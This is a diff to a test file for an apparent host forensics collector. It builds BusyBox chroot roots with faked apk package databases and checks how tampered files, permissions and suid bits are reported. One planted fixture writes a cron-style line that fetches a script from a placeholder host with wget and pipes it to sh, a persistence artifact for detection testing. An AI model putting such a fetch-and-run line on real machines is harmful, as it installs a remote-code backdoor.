@@ -19,6 +19,16 @@ const why = missing === '' ? '' : ` (skipped: a throw-away host ${missing})`;
 const nonce = 'abad1dea00c0ffee00c0ffee00c0ffee';
 const withRpm = existsSync('/usr/bin/rpmbuild');
 const withBusybox = existsSync('/usr/bin/busybox');
+/** A root below /new with nothing but BusyBox, and what makes a sum as apk writes it. */
+const busyboxRoot = String.raw`
+mkdir -p /new/bin /new/usr/bin /new/usr/sbin /new/sbin /new/lib/apk/db /new/etc/init.d /new/etc/periodic/daily /new/proc /new/dev /new/tmp /new/root /new/var/log /new/run
+cp /bin/busybox /new/bin/busybox
+for a in $(/new/bin/busybox --list); do [ $a = busybox ] || ln -s /bin/busybox /new/bin/$a; done
+printf 'ID=alpine\nVERSION_ID=3.19.1\n' >/new/etc/os-release
+printf 'root:x:0:0:root:/root:/bin/sh\n' >/new/etc/passwd; printf 'root:*:19000::::::\n' >/new/etc/shadow; printf 'root:x:0:\n' >/new/etc/group
+sum() { sha1sum $1 | cut -c1-40 | perl -ne 'chomp; print pack("H*", $_)' | base64; }
+`;
+const inBusybox = ['chroot', '/new', '/bin/busybox', 'sh', '-s'];
 let image: ThrowawayImage;
 let rpmImage: ThrowawayImage | undefined;
 
@@ -108,23 +118,12 @@ cat /usr/local/wrapper >/usr/bin/stat`;
   test.skipIf(!withBusybox)(
     `a host with BusyBox only, and the database of apk${withBusybox ? '' : ' (skipped: busybox is missing)'}`,
     async () => {
-      const plant = String.raw`
-mkdir -p /new/bin /new/usr/bin /new/usr/sbin /new/sbin /new/lib/apk/db /new/etc/init.d /new/etc/periodic/daily /new/proc /new/dev /new/tmp /new/root /new/var/log /new/run
-cp /bin/busybox /new/bin/busybox
-for a in $(/new/bin/busybox --list); do [ $a = busybox ] || ln -s /bin/busybox /new/bin/$a; done
-printf 'ID=alpine\nVERSION_ID=3.19.1\n' >/new/etc/os-release
-printf 'root:x:0:0:root:/root:/bin/sh\n' >/new/etc/passwd; printf 'root:*:19000::::::\n' >/new/etc/shadow; printf 'root:x:0:\n' >/new/etc/group
-printf '#!/bin/sh\ntrue\n' >/new/etc/init.d/crond; printf 'true\n' >/new/usr/sbin/setup; cp /new/usr/sbin/setup /new/usr/sbin/other
-sum() { sha1sum $1 | cut -c1-40 | perl -ne 'chomp; print pack("H*", $_)' | base64; }
+      const plant = String.raw`${busyboxRoot}printf '#!/bin/sh\ntrue\n' >/new/etc/init.d/crond; printf 'true\n' >/new/usr/sbin/setup; cp /new/usr/sbin/setup /new/usr/sbin/other
 { printf 'P:busybox\nV:1.36.1-r15\nA:x86_64\nF:bin\nR:busybox\nZ:Q1%s\nF:etc/init.d\nR:crond\nZ:Q1%s\nF:usr/sbin\nR:setup\nZ:Q1%s\n\n' $(sum /new/bin/busybox) $(sum /new/etc/init.d/crond) $(sum /new/usr/sbin/setup); } >/new/lib/apk/db/installed
 printf 'changed\n' >>/new/usr/sbin/setup
 printf '* * * * * wget -q -O- http://192.0.2.1 | sh\n' >/new/etc/periodic/daily/x
 mount -t proc proc /new/proc; mount --rbind /dev /new/dev`;
-      const shell = ['chroot', '/new', '/bin/busybox', 'sh', '-s'];
-      const collected = await collect({
-        plant,
-        shell,
-      });
+      const collected = await collect({ plant, shell: inBusybox });
       expect(unwhole(collected).map(({ artifact, why: said }) => `${artifact}: ${said}`)).toEqual([
         'privileged: getcap is not there, so file capabilities were not looked for',
       ]);
@@ -142,6 +141,33 @@ mount -t proc proc /new/proc; mount --rbind /dev /new/dev`;
       expect(
         collected.facts.some(({ artifact, value }) => artifact === 'packages' && value === '1.36.1-r15'),
       ).toBe(true);
+    },
+  );
+
+  test.skipIf(!withBusybox)(
+    `of recent changes on a host with apk, files that are what their package brought are counted${withBusybox ? '' : ' (skipped: busybox is missing)'}`,
+    async () => {
+      // All of them are as young as each other: apk says what a file is, not when it came.
+      const plant = String.raw`${busyboxRoot}
+mkdir -p /new/usr/share/x /new/opt
+for f in whole text mode owner suid suidlost none; do echo "the text of $f" >/new/usr/share/x/$f; done; : >/new/usr/share/x/empty
+chmod 4755 /new/usr/share/x/suid /new/usr/share/x/suidlost
+{ printf 'P:x\nV:1\nF:usr/share/x\nM:0:0:700\n'; for f in whole text mode owner suid suidlost empty; do printf 'R:%s\n' $f; case $f in suid*) printf 'a:0:0:4755\n';; esac; printf 'Z:Q1%s\n' $(sum /new/usr/share/x/$f); done; printf '\n'; } >/new/lib/apk/db/installed
+echo more >>/new/usr/share/x/text; chmod 4644 /new/usr/share/x/mode; chown 7 /new/usr/share/x/owner; chmod 755 /new/usr/share/x/suidlost
+mount -t proc proc /new/proc; mount --rbind /dev /new/dev`;
+      for (const merged of ['', '; rm -rf /new/usr/bin; mv /new/bin /new/usr/bin; ln -s usr/bin /new/bin']) {
+        const seen = await collect({
+          plant: plant + merged,
+          shell: inBusybox,
+          artifacts: ['recent-changes'],
+        });
+        expect(unwhole(seen)).toEqual([]);
+        const paths = seen.facts.map(({ path }) => path).filter((path) => path.startsWith('/usr/share/x/'));
+        const listed = ['mode', 'none', 'owner', 'suidlost', 'text'];
+        expect(paths.sort()).toEqual(listed.map((name) => `/usr/share/x/${name}`));
+        const counted = seen.facts.find(({ key }) => key === 'packaged files');
+        expect(counted?.detail.unchangedSinceInstalled).toBe('3');
+      }
     },
   );
 
